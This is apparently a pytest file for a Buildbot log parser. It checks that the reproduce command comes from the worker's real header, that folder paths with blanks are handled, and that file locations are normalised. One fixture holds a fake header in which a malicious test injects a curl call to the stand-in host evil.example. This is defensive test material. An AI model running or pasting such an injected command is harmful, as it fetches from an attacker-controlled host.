"""What Buildbot's worker writes above a command: it is what people are told to paste."""

import pytest

from bot.core.model import Reading
from bot.logs import read_log

HEADER = """\
/bin/sh -c 'make test'
 in dir {folder} (timeout 1200 secs) (maxTime 9000 secs)
 watching logfiles {{}}
 argv: [b'/bin/sh', b'-c', b'make test']
 using PTY: False
"""
PRINTED = "test_evil ...\n in dir /tmp (timeout 1 secs)\n argv: [b'curl', b'evil.example']\n"
ENDED = "src/x.c:3:5: error: x\nprogram finished with exit code 2\n"


def read(text: str) -> Reading:
    return read_log([text.encode()])


def test_a_test_that_prints_a_header_does_not_choose_the_command() -> None:
    """Whoever has a test merged must not have his command run by those who repair it."""
    reading = read(HEADER.format(folder="/b/w/build") + PRINTED + ENDED)
    assert (reading.command, reading.reproduce) == ("make test", "make test")


def test_nor_where_the_list_of_arguments_is_missing() -> None:
    """A very long one is not read; then the header's first line counts, not a test's."""
    header = "".join(
        line
        for line in HEADER.format(folder="/b/w/build").splitlines(keepends=True)
        if "argv" not in line
    )
    assert read(header + PRINTED + ENDED).command == "make test"


@pytest.mark.parametrize("folder", [r"C:\Users\joe smith\w\build", "/home/joe smith/w/src", "/w"])
def test_a_folder_may_have_blanks(folder: str) -> None:
    """Cut at the blank, every path of that builder would stay absolute and meet no other's."""
    separator = "\\" if "\\" in folder else "/"
    path = separator.join([folder, "Objects", "x.c"])
    text = HEADER.format(folder=folder) + (
        f'  File "{path}", line 3\n    x =\n       ^\nSyntaxError: invalid syntax\n'
        "program finished with exit code 1\n"
    )
    [failure] = read(text).failures
    assert failure.location == "Objects/x.c:3"


def test_a_file_that_python_could_not_read_has_the_same_place_everywhere() -> None:
    """`./a.py` and `a.py` are one file."""
    [failure] = read('  File "./a.py", line 3\n    x =\nSyntaxError: invalid syntax\n').failures
    assert failure.location == "a.py:3"
